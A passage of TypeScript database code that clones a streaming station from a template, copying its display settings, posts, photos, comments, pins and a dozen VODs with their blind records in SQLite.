  const from = template.station_no;
  db.prepare(
    `INSERT INTO station_display SELECT ?, ?, main_type, title_type, title_text, skin_type, ai_profile_conf_yn, ai_profile_str, subscribe_visible,
       active_no, status_code, menu_store, menu_best, menu_partner, menu_supporters, today0_visit_cnt, today1_visit_cnt, today0_ok_cnt,
       today1_ok_cnt, today0_fav_cnt, today1_fav_cnt, total_view_cnt, fanclub_cnt, supporter_cnt, tier1_cnt, tier2_cnt, rank_json, is_adsence
     FROM station_display WHERE station_no = ?`,
  ).run(stationNo, toUserId, from);
  for (const table of ["station_boards", "station_rankings", "station_managers", "station_members"]) copyStationRows(db, table, from, stationNo);
  copyStationRows(db, "station_links", from, stationNo, ["link_no"]);
  copyStationRows(db, "station_badges", from, stationNo);

  const posts = db.prepare("SELECT * FROM station_posts WHERE station_no = ? ORDER BY title_no").all(from) as Array<
    Record<string, unknown> & { title_no: number; user_id: string }
  >;
  const titleMap = new Map<number, number>();
  for (const post of posts) {
    // The table's sequence numbers the copy: never a number a deleted post had.
    const titleNo = Number(
      db
        .prepare(
          `INSERT INTO station_posts (title_no, station_no, bbs_no, user_id, title, content, reg_date, read_cnt, like_cnt, is_notice, hash_tags)
           SELECT NULL, ?, bbs_no, ?, title, content, reg_date, read_cnt, like_cnt, is_notice, hash_tags FROM station_posts WHERE title_no = ?`,
        )
        .run(stationNo, post.user_id === fromUserId ? toUserId : post.user_id, post.title_no).lastInsertRowid,
    );
    titleMap.set(post.title_no, titleNo);
    db.prepare(
      "INSERT INTO station_photos (title_no, position, label, mime, data) SELECT ?, position, label, mime, data FROM station_photos WHERE title_no = ?",
    ).run(titleNo, post.title_no);
    copyComments(db, post.title_no, titleNo, fromUserId, toUserId);
  }
  const pins = db.prepare("SELECT title_no, expire_date, reg_date FROM station_pins WHERE station_no = ?").all(from) as Array<{
    title_no: number;
    expire_date: string;
    reg_date: string;
  }>;
  for (const pin of pins) {
    const titleNo = titleMap.get(pin.title_no);
    if (titleNo)
      db.prepare("INSERT INTO station_pins (station_no, title_no, expire_date, reg_date) VALUES (?, ?, ?, ?)").run(
        stationNo,
        titleNo,
        pin.expire_date,
        pin.reg_date,
      );
  }

  // A dozen of the template's VODs, blinds included, as the clone's own.
  const vods = db.prepare("SELECT title_no FROM vods WHERE station_no = ? ORDER BY title_no LIMIT 12").pluck().all(from) as number[];
  const blinded = new Set(db.prepare("SELECT title_no FROM station_vod_blinds").pluck().all() as number[]);
  for (const titleNo of vods) {
    const copy = (db.prepare("SELECT MAX(title_no) FROM vods").pluck().get() as number) + 1;
    const columns = (db.prepare(`PRAGMA table_info("vods")`).all() as Array<{ name: string }>).map((c) => c.name);
    const select = columns.map((name) =>
      name === "title_no" ? "?" : name === "user_id" ? "?" : name === "station_no" ? "?" : name === "story_idx" ? "NULL" : `"${name}"`,
    );
    db.prepare(`INSERT INTO vods (${columns.map((c) => `"${c}"`).join(", ")}) SELECT ${select.join(", ")} FROM vods WHERE title_no = ?`).run(
      copy,
      toUserId,
      stationNo,
      titleNo,
    );
    copyComments(db, titleNo, copy, fromUserId, toUserId);
    if (blinded.has(titleNo)) {
      db.prepare(
        "INSERT INTO station_vod_blinds (title_no, blind_id, reason, reg_date) SELECT ?, blind_id, reason, reg_date FROM station_vod_blinds WHERE title_no = ?",
      ).run(copy, titleNo);
    }
  }
}
